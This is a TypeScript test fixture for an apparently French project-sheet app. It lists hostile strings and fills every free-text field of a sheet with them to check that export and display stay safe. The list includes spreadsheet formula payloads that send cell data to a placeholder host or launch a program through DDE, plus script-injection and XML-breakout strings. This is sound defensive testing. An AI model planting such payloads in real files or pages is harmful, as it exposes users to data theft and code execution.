import type { Fiche, Project } from '../../src/domain/fiche';

/** Texts that a spreadsheet, a page or a file would take for something else, were they not written as texts. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://example.org/?"&A1,"Cliquez ici")',
  '=WEBSERVICE("http://example.org/"&A1)',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  "'=1+1",
  "''",
  '{=1+1}',
  '%=1+1',
  '"=1+1"',
  '_x003D_1+1',
  '_x000D_',
  '12 mars',
  '1e5',
  '0012',
  'VRAI',
  '1/2',
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  ']]></t></si><si><t>=1+1',
  '&lt;b&gt; &amp; &#61;1+1',
  '&D &"Arial" &[Path]',
  '__proto__',
  'javascript:alert(1)',
];

const NO_TEXTS: readonly (keyof Project)[] = ['workshopDate', 'date', 'budgetAmount'];
const FREE: readonly string[] = [
  ...['step', 'name', 'role', 'contribution', 'indicator', 'baseline', 'target', 'description', 'owner', 'accessTerms'],
  ...['sourceAndFormat', 'comment', 'action', 'who', 'label'],
];

/** A fiche with each of its free texts, filled or not, replaced by what `next` gives; all else stays. */
export function withTexts(fiche: Fiche, next: () => string): Fiche {
  const free = <T extends object>(item: T): T => {
    const texts = Object.keys(item).filter((key) => FREE.includes(key));
    return { ...item, ...Object.fromEntries(texts.map((key) => [key, next()])) };
  };
  const fields = Object.keys(fiche.project) as (keyof Project)[];
  const texts = fields.filter((field) => !NO_TEXTS.includes(field));
  return {
    ...fiche,
    project: { ...fiche.project, ...Object.fromEntries(texts.map((field) => [field, next()])) },
    calendar: fiche.calendar.map(free),
    stakeholders: fiche.stakeholders.map(free),
    impact: fiche.impact.map(free),
    datasets: fiche.datasets.map(free),
    legalStakes: fiche.legalStakes.map(free),
    actions: fiche.actions.map(free),
    snapshots: fiche.snapshots.map(free),
    answers: Object.fromEntries(Object.entries(fiche.answers).map(([id, answer]) => [id, free(answer)])),
  };
}
